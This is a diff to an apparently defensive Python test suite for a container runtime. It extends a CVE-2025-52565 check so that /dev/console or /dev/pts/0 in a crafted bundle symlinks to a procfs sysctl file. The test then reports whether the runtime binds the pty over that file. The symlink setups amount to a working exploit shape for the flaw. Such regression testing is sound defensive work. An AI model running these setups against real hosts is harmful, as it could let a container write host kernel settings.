@@ -14,8 +14,8 @@ import os
 
 from lib.framework import Failure
 from lib.sockets import ConsoleSocket
-from seclib import (PROC_AUDIT, Racer, Vulnerable, attack, attempt, proc_audit_problems, race,
-                    reset_output, wait_exit)
+from seclib import (PROC_AUDIT, Racer, Vulnerable, attack, attempt, first_line, proc_audit_problems,
+                    race, reset_output, wait_exit)
 
 
 def dev_dir(t, name="devdir"):
@@ -89,7 +89,6 @@ def console_attempt(t, b):
     r = t.create(b, extra=("--console-socket", cs.path))
     if r.rc != 0:
         t.ids.remove(r.id)
-        from seclib import first_line
         return ("refused", first_line(r.err or r.out))
     pid = t.state(r.id)["pid"]
     t.start_ok(r.id)
@@ -114,27 +113,44 @@ def console_problems(out):
 
 
 @attack("cve_2025_52565_console_symlink", ["CVE-2025-52565"],
-        "terminal: true with /dev bound from the attacker's directory where console is a symlink "
-        "to a procfs file: the pty is not bound over that file",
+        "terminal: true with /dev bound from the attacker's directory where console, or pts, is a "
+        "symlink towards a procfs file: the pty is not bound over that file nor that file on "
+        "/dev/console",
         runc_vulnerable="fixed in runc 1.2.8/1.3.3/1.4.0-rc.3: /dev/console is created and bound "
                         "by path, following the symlink")
 def _(t, env):
-    devdir = dev_dir(t)
-    os.symlink("/proc/sys/kernel/domainname", os.path.join(devdir, "console"))
-    os.symlink("pts/ptmx", os.path.join(devdir, "ptmx"))
-    os.mknod(os.path.join(devdir, "null"), 0o20666, os.makedev(1, 3))
-    b = t.bundle(name="victim")
-    bind_dev(b, devdir)
-    b.process["terminal"] = True
-    b.script(CONSOLE_AUDIT)
-    r = console_attempt(t, b)
-    if r[0] == "ran":
-        problems = console_problems(r[1])
-        if problems:
-            raise Vulnerable("; ".join(problems))
-        t.note("ran; /dev/console is the pty: %s" % r[1].strip().splitlines()[0])
-    else:
-        t.note("refused: " + r[1])
+    def console_link(devdir, b):
+        os.symlink("/proc/sys/kernel/domainname", os.path.join(devdir, "console"))
+        os.symlink("pts/ptmx", os.path.join(devdir, "ptmx"))
+
+    def pts_link(devdir, b):
+        # /dev/pts/0 (the first pty of a fresh devpts) leads to the sysctl; the real devpts
+        # is at /realpts, where /dev/ptmx points.
+        os.rmdir(os.path.join(devdir, "pts"))
+        os.symlink("/fakepts", os.path.join(devdir, "pts"))
+        os.makedirs(os.path.join(b.rootfs, "fakepts"))
+        os.symlink("/proc/sys/kernel/domainname", os.path.join(b.rootfs, "fakepts", "0"))
+        os.symlink("/realpts/ptmx", os.path.join(devdir, "ptmx"))
+        b.mkdir("/realpts")
+        next(m for m in b.config["mounts"] if m["destination"] == "/dev/pts")["destination"] = "/realpts"
+
+    for i, (what, shape) in enumerate((("/dev/console -> /proc/sys/kernel/domainname", console_link),
+                                       ("/dev/pts -> a directory whose 0 -> /proc/sys/kernel/domainname", pts_link))):
+        devdir = dev_dir(t, "devdir%d" % i)
+        os.mknod(os.path.join(devdir, "null"), 0o20666, os.makedev(1, 3))
+        b = t.bundle(name="victim%d" % i)
+        bind_dev(b, devdir)
+        shape(devdir, b)
+        b.process["terminal"] = True
+        b.script(CONSOLE_AUDIT)
+        r = console_attempt(t, b)
+        if r[0] == "ran":
+            problems = console_problems(r[1])
+            if problems:
+                raise Vulnerable("%s: %s" % (what, "; ".join(problems)))
+            t.note("%s: ran; /dev/console is the pty (%s)" % (what, r[1].strip().splitlines()[0]))
+        else:
+            t.note("%s: refused (%s)" % (what, r[1]))
 
 
 @attack("cve_2025_52565_pts_race", ["CVE-2025-52565"],
